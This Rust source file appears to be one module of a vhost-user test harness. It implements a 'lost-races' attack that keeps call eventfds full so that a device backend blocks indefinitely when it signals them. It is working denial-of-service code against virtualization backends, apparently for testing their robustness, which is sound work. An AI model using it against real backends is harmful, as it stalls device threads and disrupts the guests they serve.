// Copyright 2026 The vhost-guest Authors. All rights reserved.
//
// SPDX-License-Identifier: Apache-2.0 OR BSD-3-Clause

//! Call eventfds are filled whenever there is room in them. A device that
//! signals one after it has seen room in it sleeps in `write` then, for as long
//! as the frontend likes, and for good if nobody reads any more.

use std::io::{self, IoSliceMut};
use std::os::fd::{AsFd, OwnedFd};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread;

use rustix::event::{eventfd, EventfdFlags};
use rustix::io::{preadv2, ReadWriteFlags};
use vhost_guest_msg::frontend as code;

use super::{behaves, Attack};
use crate::attack::attacker::{Attacker, Kept, Strike};
use crate::attack::machine::Setup;

pub const ATTACK: Attack = Attack {
    name: "lost-races",
    what: "call eventfds that are full when they are signalled",
    unprivileged: false,
    knob: None,
    setup: Setup {
        ioeventfds: false,
        ..Setup::PLAIN
    },
    guest: behaves,
    prepare: |_| Ok(Box::new(LostRaces)),
};

const VRINGS: u64 = 4;
/// Threads that fill each eventfd.
const FILLERS: usize = 2;
/// The offset that means that there is none.
const NO_OFFSET: u64 = u64::MAX;

struct LostRaces;

impl Strike for LostRaces {
    fn strike(&mut self, attacker: &Attacker) -> io::Result<Kept> {
        let mut frontend = attacker.negotiated()?;
        let over = Arc::new(AtomicBool::new(false));
        let mut kept: Kept = Vec::new();
        for vring in 0..VRINGS {
            // Not O_NONBLOCK: who writes sleeps while it is full.
            let call = Arc::new(eventfd(0, EventfdFlags::CLOEXEC)?);
            frontend.tell(code::SET_VRING_CALL, &[vring], &[call.as_fd()])?;
            if attacker.hostile {
                for _ in 0..FILLERS {
                    let call = call.clone();
                    thread::spawn(move || loop {
                        let most = (u64::MAX - 1).to_ne_bytes();
                        let _ = rustix::io::write(&call, &most);
                    });
                }
                let (call, over) = (call.clone(), over.clone());
                thread::spawn(move || {
                    while !over.load(Ordering::Relaxed) {
                        take(&call);
                        thread::yield_now();
                    }
                });
            }
            kept.push(Box::new(call));
        }
        attacker.until_told()?;
        // Nobody reads any more; whoever writes now sleeps.
        over.store(true, Ordering::Relaxed);
        Ok(kept)
    }
}

fn take(eventfd: &OwnedFd) {
    let mut count = [0; 8];
    let mut parts = [IoSliceMut::new(&mut count)];
    let _ = preadv2(eventfd, &mut parts, NO_OFFSET, ReadWriteFlags::NOWAIT);
}
